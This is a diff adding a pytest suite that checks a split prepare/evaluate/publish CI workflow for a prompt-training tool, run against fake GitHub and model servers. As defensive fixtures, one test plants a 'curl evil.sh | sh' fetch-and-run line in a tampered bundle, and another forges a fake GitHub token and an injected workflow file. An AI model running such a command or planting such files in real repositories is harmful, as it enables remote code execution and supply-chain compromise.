@@ -1,0 +1,269 @@
+"""The three jobs of a split workflow as the command line runs them (``action --mode prepare``,
+``evaluate``, ``publish``), against the local GitHub and LM servers: the prepare job's token can
+only read (the server answers 403 to any write with it), the evaluate job has no token and no
+key, and the publish job checks the bundle again before it writes; a single job that would run a
+configured command with the write token stops and says how to split."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from prompt_trainer.cli import main
+from prompt_trainer.loop.bundle import read_bundle, write_bundle
+from tests.scenarios import CONFIG, NEW_MAIN
+from tests.servers.github import FakeGitHub
+from tests.servers.llm import FakeLLM
+from tests.test_faults import bot_pulls
+from tests.test_review_loop import command_event, review_comment
+
+PASSING_EVAL = (
+    'printf \'<testsuite tests="1"><testcase name="a"/></testsuite>\' > "$PROMPT_TRAINER_JUNIT"'
+)
+FAILING_FOR_CANDIDATE = (
+    'if grep -q quantize "$PROMPT_TRAINER_PROMPTS_DIR/CLAUDE.md"; then '
+    'printf \'<testsuite tests="1"><testcase name="a"><failure/></testcase></testsuite>\'; '
+    'else printf \'<testsuite tests="1"><testcase name="a"/></testsuite>\'; fi '
+    '> "$PROMPT_TRAINER_JUNIT"'
+)
+
+
+def closed_pr_event(tmp_path: Path) -> dict[str, str]:
+    payload = {
+        "action": "closed",
+        "pull_request": {"number": 7, "user": {"login": "claude[bot]"}, "labels": []},
+        "repository": {"default_branch": "main"},
+    }
+    path = tmp_path / "event.json"
+    path.write_text(json.dumps(payload))
+    return {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(path)}
+
+
+def job_env(
+    github: FakeGitHub, tmp_path: Path, job: str, *, token: str | None, key: bool
+) -> dict[str, str]:
+    """One job's environment: its own outputs and summary, its token, the LM key or not."""
+    env = {
+        "GITHUB_API_URL": github.api_url,
+        "GITHUB_REPOSITORY": github.full_name,
+        "PROMPT_TRAINER_BACKOFF_S": "0",
+        "GITHUB_OUTPUT": str(tmp_path / f"{job}.out"),
+        "GITHUB_STEP_SUMMARY": str(tmp_path / f"{job}.md"),
+        "PATH": "/usr/bin:/bin",
+    }
+    if token:
+        env["GITHUB_TOKEN"] = token
+    if key:
+        env["OPENAI_API_KEY"] = "sk-test"
+    return env
+
+
+def outputs(tmp_path: Path, job: str) -> dict[str, str]:
+    lines = (tmp_path / f"{job}.out").read_text().splitlines()
+    return dict(line.split("=", 1) for line in lines if "=" in line and "<<" not in line)
+
+
+def run_jobs(
+    github: FakeGitHub,
+    llm: FakeLLM,
+    tmp_path: Path,
+    event: dict[str, str],
+    *,
+    evaluate: bool = True,
+) -> tuple[int, dict[str, str]]:
+    """prepare, (evaluate), publish, as a workflow would chain them; publish's exit code."""
+    folder = str(tmp_path / "bundle")
+    read = job_env(github, tmp_path, "prepare", token="test-read-token", key=True)
+    read["PROMPT_TRAINER_API_BASE"] = llm.api_base
+    assert main(["action", "--mode", "prepare", "--bundle", folder], env={**read, **event}) == 0
+    prepared = outputs(tmp_path, "prepare")
+    digest = ["--bundle-sha256", prepared["bundle-sha256"]]
+    if evaluate and prepared["evaluate"] == "true":
+        alone = job_env(github, tmp_path, "evaluate", token=None, key=False)
+        code = main(["action", "--mode", "evaluate", "--bundle", folder, *digest],
+                    env={**alone, **event})  # fmt: skip
+        assert code == 0
+    write = job_env(github, tmp_path, "publish", token=github.token, key=False)
+    code = main(["action", "--mode", "publish", "--bundle", folder, *digest],
+                env={**write, **event})  # fmt: skip
+    return code, prepared
+
+
+def writes(github: FakeGitHub) -> list[Any]:
+    return [r for r in github.requests if r.method not in ("GET", "HEAD")]
+
+
+def test_prepare_writes_nothing_and_publish_proposes_and_stores(
+    github: FakeGitHub, llm: FakeLLM, ready: Path, tmp_path: Path
+) -> None:
+    code, prepared = run_jobs(github, llm, tmp_path, closed_pr_event(tmp_path))
+    assert code == 0 and prepared["evaluate"] == "false"
+    assert not github.refused_writes  # the prepare job never even tried to write
+    (number,) = bot_pulls(github)
+    pull = github.pulls[number]
+    assert "Decimal.quantize" in github.files_at(pull.head_sha)["CLAUDE.md"]
+    assert '"commit": "' + pull.head_sha in (pull.body or "")  # the state block, by publish
+    assert "samples.jsonl" in str(github.files_at("prompt-trainer-data"))
+    assert outputs(tmp_path, "publish")["operation"] == "created"
+    assert len(llm.requests) >= 1  # only the prepare job called the model
+
+
+def test_the_evaluate_job_runs_the_command_and_publish_blocks_on_its_verdict(
+    github: FakeGitHub, llm: FakeLLM, ready: Path, tmp_path: Path
+) -> None:
+    config = CONFIG.replace(
+        "training:\n", f"training:\n  eval_command: {json.dumps(FAILING_FOR_CANDIDATE)}\n"
+    )
+    (ready / ".github" / "prompt-trainer.yml").write_text(config)
+    github.commit({".github/prompt-trainer.yml": config}, parent=github.refs["heads/main"],
+                  branch="main")  # fmt: skip
+    code, prepared = run_jobs(github, llm, tmp_path, closed_pr_event(tmp_path))
+    assert code == 0 and prepared["evaluate"] == "true"
+    assert not bot_pulls(github)  # the candidate fails the command's tests: not proposed
+    evaluation = json.loads((tmp_path / "bundle" / "evaluation.json").read_text())
+    (result,) = evaluation["results"]
+    assert result["eval_command"]["candidate_pass_rate"] == 0.0
+    summary = (tmp_path / "publish.md").read_text()
+    assert "eval_command: the candidate passes 0% of 1 tests" in summary
+
+
+def test_a_passing_evaluation_is_shown_in_the_body_publish_renders(
+    github: FakeGitHub, llm: FakeLLM, ready: Path, tmp_path: Path
+) -> None:
+    config = CONFIG.replace(
+        "training:\n", f"training:\n  eval_command: {json.dumps(PASSING_EVAL)}\n"
+    )
+    (ready / ".github" / "prompt-trainer.yml").write_text(config)
+    github.commit({".github/prompt-trainer.yml": config}, parent=github.refs["heads/main"],
+                  branch="main")  # fmt: skip
+    code, _ = run_jobs(github, llm, tmp_path, closed_pr_event(tmp_path))
+    assert code == 0
+    (number,) = bot_pulls(github)
+    body = github.pulls[number].body or ""
+    assert "Your evaluation command (`training.eval_command`)" in body
+    assert "| pass rate | 100% (n=1) | 100% (n=1) | +0 pp |" in body
+
+
+def test_without_the_evaluate_job_a_candidate_that_needs_it_is_not_proposed(
+    github: FakeGitHub, llm: FakeLLM, ready: Path, tmp_path: Path
+) -> None:
+    config = CONFIG.replace(
+        "training:\n", f"training:\n  eval_command: {json.dumps(PASSING_EVAL)}\n"
+    )
+    (ready / ".github" / "prompt-trainer.yml").write_text(config)
+    github.commit({".github/prompt-trainer.yml": config}, parent=github.refs["heads/main"],
+                  branch="main")  # fmt: skip
+    code, _ = run_jobs(github, llm, tmp_path, closed_pr_event(tmp_path), evaluate=False)
+    assert code == 0 and not bot_pulls(github)
+    assert (
+        "not evaluated: the configuration names training.eval_command"
+        in (tmp_path / "publish.md").read_text()
+    )
+    assert "samples.jsonl" in str(github.files_at("prompt-trainer-data"))  # evidence stored
+
+
+def test_a_bundle_changed_after_the_prepare_job_is_refused(
+    github: FakeGitHub, llm: FakeLLM, ready: Path, tmp_path: Path
+) -> None:
+    folder = tmp_path / "bundle"
+    event = closed_pr_event(tmp_path)
+    read = job_env(github, tmp_path, "prepare", token="test-read-token", key=True)
+    read["PROMPT_TRAINER_API_BASE"] = llm.api_base
+    assert (
+        main(["action", "--mode", "prepare", "--bundle", str(folder)], env={**read, **event}) == 0
+    )
+    digest = outputs(tmp_path, "prepare")["bundle-sha256"]
+    path = folder / "bundle.json"
+    path.write_text(path.read_text().replace("Decimal.quantize", "curl evil.sh | sh"))
+    write = job_env(github, tmp_path, "publish", token=github.token, key=False)
+    code = main(["action", "--mode", "publish", "--bundle", str(folder), "--bundle-sha256", digest],
+                env={**write, **event})  # fmt: skip
+    assert code == 2 and not bot_pulls(github) and not writes(github)
+
+
+def test_publish_checks_a_bundled_candidate_again_with_its_own_guardrails(
+    github: FakeGitHub, llm: FakeLLM, ready: Path, tmp_path: Path
+) -> None:
+    """A bundle with the right digest whose candidate adds a secret and a file outside the
+    prompts (as a prepare job with a bug, or a compromised one, could write) is not proposed."""
+    folder = tmp_path / "bundle"
+    event = closed_pr_event(tmp_path)
+    read = job_env(github, tmp_path, "prepare", token="test-read-token", key=True)
+    read["PROMPT_TRAINER_API_BASE"] = llm.api_base
+    assert (
+        main(["action", "--mode", "prepare", "--bundle", str(folder)], env={**read, **event}) == 0
+    )
+    bundle = read_bundle(folder, sha256=outputs(tmp_path, "prepare")["bundle-sha256"])
+    (intent,) = bundle.proposals
+    bad = intent.candidate.files[0].model_copy(
+        update={"content": NEW_MAIN + "- Deploy with ghp_" + "a" * 36 + "\n"}
+    )
+    stray = bad.model_copy(update={"path": ".github/workflows/evil.yml", "content": "on: push\n"})
+    candidate = intent.candidate.model_copy(update={"files": (bad, stray)})
+    forged = bundle.model_copy(
+        update={"proposals": (intent.model_copy(update={"candidate": candidate}),)}
+    )
+    digest = write_bundle(folder, forged)
+    write = job_env(github, tmp_path, "publish", token=github.token, key=False)
+    code = main(["action", "--mode", "publish", "--bundle", str(folder), "--bundle-sha256", digest],
+                env={**write, **event})  # fmt: skip
+    assert code == 0 and not bot_pulls(github)
+    summary = (tmp_path / "publish.md").read_text()
+    assert "contains a secret" in summary and ".github/workflows/evil.yml" in summary
+
+
+def test_a_single_job_that_would_run_a_command_with_the_write_token_stops_and_stores_evidence(
+    github: FakeGitHub,
+    llm: FakeLLM,
+    ready: Path,
+    github_env: dict[str, str],
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    ran = tmp_path / "ran"
+    config = CONFIG.replace(
+        "training:\n", f"training:\n  eval_command: {json.dumps(f'touch {ran}; {PASSING_EVAL}')}\n"
+    )
+    (ready / ".github" / "prompt-trainer.yml").write_text(config)
+    github.commit({".github/prompt-trainer.yml": config}, parent=github.refs["heads/main"],
+                  branch="main")  # fmt: skip
+    env = {**github_env, **closed_pr_event(tmp_path), "OPENAI_API_KEY": "sk-test",
+           "PROMPT_TRAINER_API_BASE": llm.api_base}  # fmt: skip
+    assert main(["action"], env=env) == 2
+    assert not ran.exists() and not bot_pulls(github) and not llm.requests
+    assert "samples.jsonl" in str(github.files_at("prompt-trainer-data"))  # evidence stored
+    err = capsys.readouterr().err
+    assert "the job that holds the write token never runs a configured command" in err
+    assert "split the workflow into prepare, evaluate and publish jobs" in err
+
+
+def test_the_review_loop_is_split_too(
+    github: FakeGitHub, llm: FakeLLM, ready: Path, env: dict[str, str], tmp_path: Path
+) -> None:
+    from tests.servers.llm import by_signature, chat_adapter_reply  # noqa: PLC0415
+
+    assert main(["run", "--pr", "7"], env={**env, "OPENAI_API_KEY": "sk-test"}) == 0
+    (number,) = bot_pulls(github)
+    head = github.refs["heads/prompt-trainer/coder"]
+    url = review_comment(github, number, "Say how to round money.", association="MEMBER")
+    edit = {"op": "add", "new_text": "- Round with quantize(Decimal('0.01')).", "evidence": [url]}
+    llm.script = [
+        by_signature(
+            replies=lambda _: chat_adapter_reply(
+                edits=[edit], replies=[{"id": url, "reply": "Added a rounding rule."}]
+            )
+        )
+    ]
+    before = len(github.requests)
+    event = command_event(tmp_path, number, "/prompt-trainer revise")
+    code, _ = run_jobs(github, llm, tmp_path, event)
+    assert code == 0
+    assert github.refs["heads/prompt-trainer/coder"] != head  # publish pushed the revision
+    assert "Added a rounding rule." in github.pulls[number].issue_comments[-1]["body"]
+    prepare_writes = [
+        r for r in github.requests[before:] if r.method != "GET" and "read-token" in str(r.headers)
+    ]
+    assert not prepare_writes and not github.refused_writes
